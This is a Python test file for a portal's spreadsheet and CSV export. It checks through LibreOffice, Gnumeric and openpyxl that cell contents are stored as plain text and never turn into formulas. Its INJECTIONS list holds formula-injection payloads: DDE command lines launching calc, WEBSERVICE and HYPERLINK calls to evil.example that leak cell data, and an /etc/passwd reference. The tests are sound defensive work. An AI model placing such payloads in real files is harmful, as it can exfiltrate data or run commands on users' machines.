"""Derived files: no spreadsheet program finds a formula in them, and the values come back as they were (SEC-20)."""

import csv
import gzip
import io
import json
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.exports.files.derived import csv_of, xlsx_of
from portal.exports.files.spreadsheet import safe_cell
from portal.exports.files.workbook import MAX_CELL_CHARS, sheets_of
from portal.preview import Preview, Table, read

pytestmark = pytest.mark.keeps("LAW-8", "SEC-20")

# Ways a text has been made to run or load something in a spreadsheet program; addresses are reserved ones.
INJECTIONS = [
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    '=IMPORTXML("http://evil.example/","//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1,1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "x\n=1+1",
    "x\r\n=1+1",
    'x","=1+1',
    'x";"=1+1',
    '"=1+1',
    '"",=1+1',
    ",=1+1",
    ";=1+1",
    "\t,=1+1",
    "'=1+1",
    "=\u200b1+1",
    "=A1:A3",
    "{=1+1}",
    "of:=1+1",
    "msoxl:=1+1",
    '=SUM("1";"2")',
    '=2+5+"x"',
    "=TRUE",
    "=#REF!",
    "=@A1",
    "%3D1+1",
]
FACTS = ["0012345678", "NA", "null", "", "1e5", "1E400", "2026-01-02", "3/4", "TRUE", "6035000000000001", "-12.50",
         "+1 202-555-0101", "  two  blanks  ", "José Łódź 😀", "<b>&amp;\"'</b>", "_x000D_", "x" * 400,
         "#N/A", "01:02"]  # fmt: skip


@pytest.fixture(scope="module")
def texts() -> list[str]:
    return INJECTIONS + FACTS


@pytest.fixture(scope="module")
def preview(texts: list[str]) -> Preview:
    rows = [{"id": f"r{number}", "text": text} for number, text in enumerate(texts)]
    return read(json.dumps({"customer": {"email": "anna@example.com"}, "rows": rows}).encode(), "json")


@pytest.fixture(scope="module")
def one_table(texts: list[str]) -> Preview:
    return read(json.dumps([{"id": f"r{number}", "text": text} for number, text in enumerate(texts)]).encode(), "json")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, preview: Preview, one_table: Preview) -> Path:
    path = tmp_path_factory.mktemp("derived")
    (path / "whole.xlsx").write_bytes(b"".join(xlsx_of(preview)))
    (path / "table.xlsx").write_bytes(b"".join(xlsx_of(one_table)))
    (path / "table.csv").write_bytes(b"".join(csv_of(one_table)))
    return path


def flat(text: str) -> str:
    """Without the difference between line breaks, which LibreOffice does not keep."""
    return re.sub(r"\r\n|\r", "\n", text)


def visible(text: str) -> str:
    """Control characters as the workbook writes them."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", lambda found: f"\\x{ord(found[0]):02x}", text)


def formulas_in_flat_ods(path: Path) -> list[str]:
    root = ElementTree.parse(path).getroot()
    return [value for node in root.iter() for key, value in node.attrib.items() if key.endswith("}formula")]


def formulas_in_gnumeric(path: Path) -> list[str]:
    """Cells with an expression; a text cell has a value type instead."""
    data = path.read_bytes()
    root = ElementTree.fromstring(gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data)
    found = [node for node in root.iter() if node.tag.endswith("}Cell")]
    assert found
    return [node.text or "" for node in found if "ExprID" in node.attrib or "ValueType" not in node.attrib]


@pytest.mark.parametrize("name", ["whole.xlsx", "table.xlsx", "table.csv"])
def test_libreoffice_finds_no_formula(folder: Path, name: str, libreoffice: Callable[..., Path]) -> None:
    made = libreoffice(folder / name, "fods")
    assert "r3" in made.read_text(encoding="utf-8")
    assert formulas_in_flat_ods(made) == []


@pytest.mark.parametrize("name", ["whole.xlsx", "table.xlsx", "table.csv"])
def test_gnumeric_finds_no_formula(folder: Path, name: str, gnumeric: Callable[..., Path]) -> None:
    assert formulas_in_gnumeric(gnumeric(folder / name, "gnumeric")) == []


def test_both_judges_would_find_a_formula(
    tmp_path: Path, libreoffice: Callable[..., Path], gnumeric: Callable[..., Path]
) -> None:
    file = tmp_path / "live.csv"
    file.write_text("a\n=1+1\n", encoding="utf-8")
    assert len(formulas_in_flat_ods(libreoffice(file, "fods"))) == 1
    assert len(formulas_in_gnumeric(gnumeric(file, "gnumeric"))) == 1


def test_the_workbook_comes_through_libreoffice_with_every_value(
    folder: Path, texts: list[str], libreoffice: Callable[..., Path]
) -> None:
    made = libreoffice(folder / "table.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false")
    rows = list(csv.reader(io.StringIO(made.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0] == ["id", "text"]
    assert [flat(row[1]) for row in rows[1:]] == [flat(visible(text)) for text in texts]


def test_the_workbook_comes_through_gnumeric_with_every_value(
    folder: Path, texts: list[str], gnumeric: Callable[..., Path]
) -> None:
    made = gnumeric(folder / "table.xlsx", "csv")
    rows = list(csv.reader(io.StringIO(made.read_text(encoding="utf-8"), newline="")))
    found = [flat(row[1]) for row in rows[1:]]
    wanted = [flat(visible(text)).replace("_x000D_", "_x005F_x000D_") for text in texts]  # Gnumeric does not undo it
    assert found == wanted


def test_the_csv_comes_through_libreoffice_with_every_value(
    folder: Path, texts: list[str], libreoffice: Callable[..., Path]
) -> None:
    made = libreoffice(
        folder / "table.csv",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false",
        infilter="Text - txt - csv (StarCalc):44,34,76,1,,0,true",
    )
    rows = list(csv.reader(io.StringIO(made.read_text(encoding="utf-8-sig"), newline="")))
    found = {row[0]: flat(row[1]) for row in rows if len(row) > 1}
    for number, text in enumerate(texts):
        if not any(c < " " and c not in "\t\n\r" for c in text):  # a spreadsheet drops what no text file holds
            assert found[f"r{number}"] == flat(safe_cell(text))


def test_the_workbook_has_a_sheet_a_table_and_every_cell_as_text(
    folder: Path, preview: Preview, texts: list[str]
) -> None:
    book = openpyxl.load_workbook(folder / "whole.xlsx")
    assert book.sheetnames == [table.name for table in preview.tables]
    rows = list(book["rows"].iter_rows(min_row=2))
    assert {cell.data_type for row in rows for cell in row} == {"s"}
    assert {cell.number_format for row in rows for cell in row} == {"@"}
    assert [row[1].value for row in rows] == [visible(t).replace("_x000D_", "_x005F_x000D_") for t in texts]


def test_no_cell_of_the_csv_starts_a_formula(one_table: Preview, texts: list[str]) -> None:
    data = b"".join(csv_of(one_table)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert [row[1] for row in rows[1:]] == [safe_cell(text) for text in texts]
    for row in rows[1:]:
        assert not row[1].lstrip().startswith(("=", "@")), row


CELLS = st.one_of(st.text(max_size=12), st.sampled_from([*INJECTIONS, *FACTS]), st.none())


@settings(max_examples=60, deadline=None)
@given(st.lists(st.dictionaries(st.sampled_from(["a", "b", "c d", "=x"]), CELLS), min_size=1, max_size=6))
def test_whatever_a_file_holds_the_workbook_reads_back(rows: list[dict[str, str | None]]) -> None:
    table = next(iter(read(json.dumps({"t": rows}).encode(), "json").tables))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_of_tables([table]))))
    sheet = book.worksheets[0]
    width = len(table.columns)
    assert [cell.value for cell in sheet[1]][:width] == list(table.columns)
    for number, row in enumerate(table.rows(), 2):
        found = [sheet.cell(number, column + 1).value for column in range(width)]
        wanted = [visible(cell) if isinstance(cell, str) else None for cell in row]
        for have, want in zip(found, wanted, strict=True):
            if want is None or "_x" in want or re.search("[\ud800-\udfff\ufffe\uffff]", want):
                continue
            assert (have or "") == want


def xlsx_of_tables(tables: list[Table]) -> list[bytes]:
    from portal.exports.files.workbook import workbook

    return list(workbook(tables))


def test_names_of_sheets_are_ones_a_spreadsheet_takes() -> None:
    names = ["a/b", "A/B", "'x'", "history", "[1]:*?", "", "y" * 40, "y" * 41, "😀" * 20]
    tables = [Table(name, ("a",), _rows=[["1"]]) for name in names]
    made = [sheet.name for sheet in sheets_of(tables)]
    assert len({name.casefold() for name in made}) == len(names)
    for name in made:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert name.casefold() != "history"


def test_a_table_longer_than_a_sheet_goes_on_in_the_next() -> None:
    class Many(list[list[str]]):
        def __len__(self) -> int:
            return 2_500_000

    sheets = sheets_of([Table("rows", ("a",), _rows=Many())])
    assert [(sheet.name, sheet.start, sheet.stop) for sheet in sheets] == [
        ("rows", 0, 1_048_575),
        ("rows (2)", 1_048_575, 2_097_150),
        ("rows (3)", 2_097_150, 2_500_000),
    ]


def test_a_cell_too_long_for_a_spreadsheet_is_cut_and_says_so() -> None:
    for text in ("x" * 40_000, "😀" * 20_000):
        preview = read(json.dumps([{"a": text}]).encode(), "json")
        value = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_of(preview)))).worksheets[0]["A2"].value
        assert len(value.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
        assert f"{len(text):,} characters" in value


def test_a_file_without_tables_is_still_a_workbook() -> None:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_of(read(b"{}", "json")))))
    assert book.sheetnames == ["No data"]


def test_the_workbook_streams_and_is_a_whole_archive(one_table: Preview) -> None:
    long = read(b"a,b\n" + b"0012,NA\n" * 60_000, "csv")
    pieces = list(xlsx_of(long))
    assert len(pieces) > 50
    assert max(map(len, pieces)) < 300_000
    assert zipfile.ZipFile(io.BytesIO(b"".join(pieces))).testzip() is None
